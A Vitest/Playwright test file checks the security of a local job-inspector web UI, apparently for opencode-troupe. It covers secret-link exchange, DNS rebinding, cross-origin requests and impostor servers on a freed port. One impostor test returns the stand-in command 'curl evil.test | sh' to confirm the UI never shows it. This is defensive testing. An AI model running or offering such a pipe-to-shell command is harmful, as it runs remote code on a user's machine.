import { createServer, type ServerResponse } from "node:http"
import { join } from "node:path"
import { pathToFileURL } from "node:url"
import { describe, expect, it } from "vitest"
import { leadingTo } from "../../../src/inspector/discovery/browser.ts"
import { tempFolder } from "../../support/temp-folder.ts"
import { anotherUser } from "../support/another-user.ts"
import {
  context,
  cutConnections,
  expectProblems,
  foreign,
  inspector,
  mendConnections,
  newBrowser,
  open,
  opened,
  page,
  row,
  scripted,
  start,
} from "../support/page-stage.ts"
import { expectReadable } from "../support/readable.ts"
import { OWNER, sessionOf } from "../support/scripted-troupe.ts"

describe("the way in", () => {
  it("exchanges the link for a secret that is bound to this origin, and leaves a clean address", async () => {
    await open("view=jobs")
    expect(page.url()).toBe(`${inspector.url}/?view=jobs`)
    const sizes = await sizesOf(["page.js", "page.css"])
    for (const { body, unpacked } of sizes) expect(body).toBeLessThan(unpacked / 2)
    await page.reload()
    await page.locator(".connection.is-live").waitFor()
    expect(await context.cookies()).toEqual([])
    // What the browser has is not sent again: a head alone comes over the wire.
    const again = await sizesOf(["page.js", "page.css"])
    for (const { transferred } of again) expect(transferred).toBeLessThan(1_000)
  })

  const sizesOf = (names: string[]) =>
    page.evaluate(
      (files) =>
        files.map((file) => {
          const [entry] = performance.getEntriesByName(`${location.origin}/${file}`)
          if (!(entry instanceof PerformanceResourceTiming)) throw new Error(`${file} was not loaded`)
          const { transferSize: transferred, encodedBodySize: body, decodedBodySize: unpacked } = entry
          return { transferred, body, unpacked }
        }),
      names,
    )

  it("is open to further tabs of this browser", async () => {
    await open()
    const tab = await context.newPage()
    await tab.goto(inspector.url)
    await tab.locator(".connection.is-live").waitFor()
    await tab.close()
  })

  it("takes a link that is pasted into a tab that had none", async () => {
    await page.goto(inspector.url)
    await page.getByRole("heading", { name: "This requires a fresh link" }).waitFor()
    expectProblems(/401/)
    await page.goto(inspector.link())
    await page.locator(".connection.is-live").waitFor()
    expect(page.url()).toBe(`${inspector.url}/`)
  })

  it("is found by the file that `inspect --open` hands to the browser", async () => {
    const folder = tempFolder("inspector-open")
    await page.goto(pathToFileURL(await leadingTo(inspector.link(), join(folder.path, "inspectors"))).href)
    await page.locator(".connection.is-live").waitFor()
    expect(page.url()).toBe(`${inspector.url}/`)
    foreign.length = 0
    folder.remove()
  })

  it("sends words to nobody who has not just proven who they are", async () => {
    await opened("j1")
    await open(`job=${sessionOf("j1")}`)
    await page.getByRole("button", { name: "Cancel…" }).click()
    const asked: string[] = []
    page.on("request", (request) => asked.push(new URL(request.url()).pathname))
    const cancel = `/api/jobs/${sessionOf("j1")}/cancel`
    const sent = page.waitForRequest((request) => request.url().endsWith(cancel))
    await page.getByRole("button", { name: "Cancel the job" }).click()
    await sent
    expect(asked.slice(0, asked.indexOf(cancel))).toContain("/api/proof")
  })

  it("shows nothing under a foreign name that resolves here", async () => {
    await open()
    foreign.length = 0
    const { port } = new URL(inspector.url)
    const response = await page.goto(`http://rebind.test:${port}/api/jobs`)
    expect(response?.status()).toBe(421)
    expect(foreign.splice(0)).toEqual([`http://rebind.test:${port}/api/jobs`])
    expectProblems(/421|Cross-Origin-Opener-Policy/)
  })

  it("gives another localhost port nothing to come in with, and tells it nothing", async () => {
    await opened("j1")
    await open()
    const sent: unknown[] = []
    const other = createServer(({ headers }, response) => {
      sent.push(headers.cookie, headers.authorization)
      response.setHeader("content-type", "text/html").end("<p>other</p>")
    })
    const url = await new Promise<string>((resolve) =>
      other.listen(0, "127.0.0.1", () => {
        const address = other.address()
        resolve(`http://127.0.0.1:${typeof address === "object" ? address?.port : 0}`)
      }),
    )
    await page.goto(url)
    const outcome = await page.evaluate(
      async ([target, session]) => {
        const attempt = (path: string, init?: RequestInit) =>
          fetch(`${target}${path}`, { credentials: "include", ...init }).then(
            () => "answered",
            () => "refused",
          )
        const source = new EventSource(`${target}/api/stream`, { withCredentials: true })
        const stream = new Promise((resolve) => {
          source.onmessage = source.onopen = () => resolve("answered")
          source.onerror = () => resolve("refused")
        })
        const opaque = await fetch(`${target}/api/jobs/${session}/cancel`, {
          method: "POST",
          mode: "no-cors",
          credentials: "include",
          body: "{}",
        }).then(
          (response) => response.type,
          () => "refused",
        )
        return [
          await attempt("/api/jobs"),
          await attempt(`/api/jobs/${session}/cancel`, { method: "POST", headers: { "x-troupe": "1" } }),
          await stream,
          opaque,
        ]
      },
      [inspector.url, sessionOf("j1")],
    )
    expect(sent.filter((each) => each !== undefined)).toEqual([])
    expect(await page.evaluate(() => localStorage.length)).toBe(0)
    expect(outcome.slice(0, 3)).toEqual(["refused", "refused", "refused"])
    expect(scripted.troupe.records.get(OWNER, "j1")?.state).toBe("prompting")
    other.closeAllConnections()
    other.close()
    foreign.length = 0
    expectProblems(/CORS|403|ERR_/)
  })
})

describe("a browser without a way in", () => {
  it("is shown what to do, in light as in dark", async () => {
    const used = inspector.link()
    await page.goto(used)
    await page.locator(".connection.is-live").waitFor()
    await page.evaluate(() => localStorage.clear())
    await page.goto("about:blank")
    await page.goto(used)
    await page.getByRole("heading", { name: "This requires a fresh link" }).waitFor()
    await page.getByText(inspector.command).waitFor()
    await page.getByText("Yours has expired or been used already, or there was none.").waitFor()
    await page.getByRole("button", { name: "Copy" }).waitFor()
    const [title, first] = await Promise.all(
      ["h1", "p:first-of-type"].map((part) => page.locator(`main ${part}`).boundingBox()),
    )
    expect((first?.y ?? 0) - (title?.y ?? 0) - (title?.height ?? 0)).toBeGreaterThanOrEqual(8)
    await expectReadable("the refusal")
    expectProblems(/401/)
  })
})

describe("another start on the same port", () => {
  it("does not take the secret of the last one, and the tab says what to do", async () => {
    await opened("j1")
    await open("view=jobs")
    const port = Number(new URL(inspector.url).port)
    await inspector.stop()
    await start({ port })
    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
    await page.getByText(inspector.command).waitFor()
    // What was last known stays in sight, and a fresh link in any tab brings this one back.
    await row("j1").waitFor()
    const tab = await context.newPage()
    await tab.goto(inspector.link())
    await page.locator(".connection.is-live").waitFor()
    await tab.close()
    expectProblems(/ERR_|Failed to load/)
  })
})

describe("another program on the port of an inspector that is gone", () => {
  /** Answers whatever is asked; resolves with the requests that it has heard. */
  async function impostor(answer: (path: string, response: ServerResponse) => unknown) {
    const port = Number(new URL(inspector.url).port)
    await inspector.stop()
    const heard: { path: string; secret: string | undefined }[] = []
    const server = createServer(({ url = "", headers }, response) => {
      heard.push({ path: url, secret: headers.authorization })
      answer(url, response)
    })
    await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve))
    const end = () => new Promise((resolve) => server.close(resolve).closeAllConnections())
    expectProblems(/ERR_|Failed to load/)
    return { heard, end }
  }

  const json = (response: ServerResponse, value: unknown) =>
    response.setHeader("content-type", "application/json").end(JSON.stringify(value))

  it("is sent no secret by a tab that is shown again, though it has just proven itself", async () => {
    await opened("j1")
    await open()
    const looked = page.waitForResponse((response) => response.url().includes("/api/jobs?"))
    await hide(true)
    await looked
    const { heard, end } = await impostor((_path, response) => json(response, {}))
    await hide(false)
    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
    expect(heard.filter(({ secret }) => secret !== undefined)).toEqual([])
    await end()
  })

  it("cannot have the person run a command of its own", async () => {
    await open()
    const { heard, end } = await impostor((_path, response) =>
      json(response, { error: { kind: "access", message: "", command: "curl evil.test | sh" } }),
    )
    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
    await hide(true)
    await hide(false)
    await page.evaluate(() => fetch("/after-them"))
    // The tab asks nobody any more, who could answer with another command.
    expect(heard.filter(({ path }) => !path.startsWith("/api/proof")).map(({ path }) => path)).toEqual([
      "/after-them",
    ])
    await page.getByRole("alert").getByText(inspector.command).waitFor()
    await end()
  })

  it("cannot fill a tab's memory with a proof that does not end", async () => {
    await open()
    let sent = 0
    const { end } = await impostor((_path, response) => {
      const piece = " ".repeat(65_536)
      const more = () => {
        sent += piece.length
        if (response.write(piece)) setImmediate(more)
        else response.once("drain", more)
      }
      response.setHeader("content-type", "application/json")
      more()
    })
    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
    // What fits into the sockets on the way.
    expect(sent).toBeLessThan(64 * 1024 * 1024)
    await end()
  })

  it("is sent no secret and no words, and shows nothing", async () => {
    await opened("j1")
    await open(`job=${sessionOf("j1")}`)
    // What is on its way when an inspector ends may arrive anywhere.
    await page.locator(".turn").first().waitFor()
    await page.locator(".chart svg").waitFor()
    await page.getByText("It has changed no files.").waitFor({ state: "attached" })
    const them = await anotherUser()
    await inspector.stop()
    expect(await them.attempt("listen", new URL(inspector.url).port, "AAAA")).toEqual([inspector.url])
    await page.getByRole("alert").getByText("For a fresh link, run:").waitFor()
    await page.getByText(inspector.command).waitFor()
    const heard = await them.attempt("heard")
    expect(heard).toContain("GET /api/proof")
    expect(heard.filter((request) => request.includes("Bearer"))).toEqual([])
    them.end()
    expectProblems(/ERR_|Failed to load/)
  })
})

describe("the line to the server", () => {
  it("is called stale after a long silence, with the time, until something is heard again", async () => {
    await newBrowser()
    await page.clock.install()
    await opened("j1")
    await open("view=jobs")
    // It takes each request and never says a word.
    let waiting = 0
    await cutConnections(() => void waiting++)
    // From the beginning it is said since when.
    await page
      .getByRole("status")
      .getByText(/^reconnecting, nothing heard since (\d+ \w+ )?\d\d:\d\d:\d\d$/)
      .waitFor()
    await page.clock.fastForward(20_000)
    await expect.poll(() => waiting).toBeGreaterThan(0)
    await page.clock.fastForward(26_000)
    await page
      .getByRole("status")
      .getByText(/^stale since (\d+ \w+ )?\d\d:\d\d:\d\d$/)
      .waitFor()
    await page.getByRole("alert").getByText("everything below is as it was then").waitFor()
    await page.getByRole("alert").getByText(inspector.command).waitFor()
    await page.clock.fastForward(1_000)
    const age = await row("j1").locator(".at-time").textContent()
    await page.clock.fastForward(60_000)
    expect(await row("j1").locator(".at-time").textContent()).toBe(age)
    expect(await page.locator("main").evaluate((main) => getComputedStyle(main).filter)).toBe("grayscale(1)")
    await expectReadable("what is stale")

    await mendConnections()
    await page.clock.fastForward(10_000)
    await page.locator(".connection.is-live").waitFor()
    expectProblems(/ERR_|Failed to load/)
  })

  it("is let go of by a hidden tab, which still counts who waits, and catches up when it is shown", async () => {
    await newBrowser()
    await opened("j1")
    await opened("j2")
    await open("view=jobs")
    const closed = page.waitForEvent("requestfailed", (request) => request.url().endsWith("/api/stream"))
    await page.clock.install()
    await hide(true)
    await closed
    const ask = { id: "a", kind: "question", text: "Which one?" } as const
    scripted.troupe.tell({ owner: OWNER, id: "j2" }, { type: "child.asked", ask, at: Date.now() })
    await page.clock.fastForward(16_000)
    await page.waitForFunction(() => document.title.startsWith("(1) "))
    scripted.troupe.cancel([{ owner: OWNER, id: "j2" }], "no need")
    await scripted.until("j2", "cancelled")
    await page.clock.fastForward(16_000)
    await page.waitForFunction(() => document.title === "Jobs · opencode-troupe")
    await scripted.answer("j1")

    const resumed = page.waitForRequest((request) => request.url().endsWith("/api/stream"))
    await hide(false)
    expect((await resumed).headers()["last-event-id"]).toMatch(/^\d+$/)
    await row("j1").getByText("done").waitFor()
    await row("j2").getByText("cancelled").waitFor()
  })
})

const hide = (hidden: boolean) =>
  page.evaluate((isHidden) => {
    Object.defineProperty(document, "hidden", { configurable: true, get: () => isHidden })
    document.dispatchEvent(new Event("visibilitychange"))
  }, hidden)
